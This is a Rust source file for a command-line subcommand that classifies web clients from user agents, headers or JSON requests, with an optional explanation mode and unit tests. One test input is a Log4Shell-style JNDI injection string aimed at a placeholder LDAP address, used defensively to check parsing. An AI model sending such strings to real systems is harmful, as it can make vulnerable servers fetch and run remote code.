//! `edgeward classify`: what each client is.

use std::path::PathBuf;

use clap::Args;
use edgeward::Request;
use edgeward::agent::{self, probe};
use serde::de::IgnoredAny;
use serde::{Deserialize, Serialize};

use crate::Done;
use crate::stream::{Answered, each_line};

/// Tell what each client is from what it sends
///
/// Every line of the input is a bare user agent, an object `{"ua":…,"headers":{…}}`, or a whole request; every
/// line gets one line of answer, whatever bytes it holds. A blank line is a client that sent no user agent.
#[derive(Args)]
#[command(after_help = "Examples:\n  \
    edgeward classify agents.txt\n  \
    echo 'curl/8.5.0' | edgeward classify --explain\n  \
    echo '{\"ua\":\"Mozilla/5.0 …\",\"headers\":{\"sec-ch-ua-mobile\":\"?1\"}}' | edgeward classify")]
pub struct Arguments {
    /// Add the rule that decided, every token that counted with its place, what each finding means, and what the
    /// woothee library makes of the user agent
    #[arg(long)]
    explain: bool,
    /// Lines to classify; standard input if left out
    file: Option<PathBuf>,
}

/// An explanation, and what somebody else says.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Explained<'a> {
    #[serde(flatten)]
    explanation: agent::Explanation<'a>,
    #[serde(skip_serializing_if = "Option::is_none")]
    second_opinion: Option<SecondOpinion<'a>>,
}

/// What woothee calls browser and system. It knows names for display better than a table made for decisions, and is
/// too big for a module at the edge.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct SecondOpinion<'a> {
    category: &'a str,
    name: &'a str,
    version: &'a str,
    os: &'a str,
    os_version: String,
}

fn second_opinion(agent: &str) -> Option<SecondOpinion<'_>> {
    let said = woothee::parser::Parser::new().parse(agent)?;
    Some(SecondOpinion {
        category: said.category,
        name: said.name,
        version: said.version,
        os: said.os,
        os_version: said.os_version.into_owned(),
    })
}

/// What tells a noted client or a request from a user agent that happens to be JSON.
#[derive(Default, Deserialize)]
#[serde(default)]
struct Shape {
    ua: Option<IgnoredAny>,
    headers: Option<IgnoredAny>,
    http: Option<IgnoredAny>,
}

/// Runs the command.
pub fn run(arguments: &Arguments) -> Done {
    each_line(arguments.file.as_deref(), |line, output| {
        // A user agent is bytes: what is no UTF-8 is replaced, as browsers and log viewers do.
        let line = String::from_utf8_lossy(line);
        let (request, answered) = match read(&line) {
            Ok(request) => (request, Answered::Yes),
            Err(why) => (probe::bare(&line), Answered::No(why)),
        };
        if arguments.explain {
            let agent = request.http.user_agent().flatten().unwrap_or_default();
            let second_opinion = second_opinion(agent);
            output.line(&Explained { explanation: agent::explain(&request), second_opinion })?;
        } else {
            output.line(&agent::classify(&request))?;
        }
        Ok(answered)
    })
}

/// A line that is not the JSON of a client or a request is the user agent itself: attackers send braces too.
fn read(line: &str) -> Result<Request<'_>, String> {
    let shape: Shape = match line.trim_start().strip_prefix('{') {
        Some(_) => serde_json::from_str(line).unwrap_or_default(),
        None => Shape::default(),
    };
    if shape.ua.is_some() || shape.headers.is_some() || shape.http.is_some() {
        return probe::read(line).map_err(|why| format!("is no request: {why}"));
    }
    Ok(probe::bare(line))
}

#[cfg(test)]
mod tests {
    use edgeward::request::Header;

    use super::*;

    fn header(line: &str, header: Header) -> Option<String> {
        read(line).unwrap().http.header(header).map(str::to_owned)
    }

    #[test]
    fn the_three_shapes_of_a_line() {
        assert_eq!(header("curl/8.5.0", Header::UserAgent).as_deref(), Some("curl/8.5.0"));
        let noted = r#"{"ua":"x/1","headers":{"Sec-CH-UA-Mobile":"?1"},"class":"browser"}"#;
        assert_eq!(header(noted, Header::UserAgent).as_deref(), Some("x/1"));
        assert_eq!(header(noted, Header::SecChUaMobile).as_deref(), Some("?1"));
        let request = r#"{"http":{"headers":[["user-agent","y/2"]]}}"#;
        assert_eq!(header(request, Header::UserAgent).as_deref(), Some("y/2"));
        assert_eq!(read(r#"{"http":{"path":"/"}}"#).unwrap().http.user_agent(), None, "unknown, not absent");
    }

    #[test]
    fn a_user_agent_with_braces_is_a_user_agent() {
        for agent in ["{", "{}", "{${jndi:ldap://192.0.2.1/a}}", r#"{"ua":"#, r#"{"other":1}"#] {
            assert_eq!(header(agent, Header::UserAgent).as_deref(), Some(agent));
        }
    }

    #[test]
    fn a_blank_line_is_no_user_agent() {
        for line in ["", "  ", r#"{"ua":""}"#] {
            assert_eq!(read(line).unwrap().http.user_agent(), Some(None), "{line:?}");
        }
    }

    #[test]
    fn a_broken_request_is_told_from_a_user_agent() {
        assert!(read(r#"{"http":{},"client":{"ip":"x"}}"#).unwrap_err().contains("`x`"));
    }
}
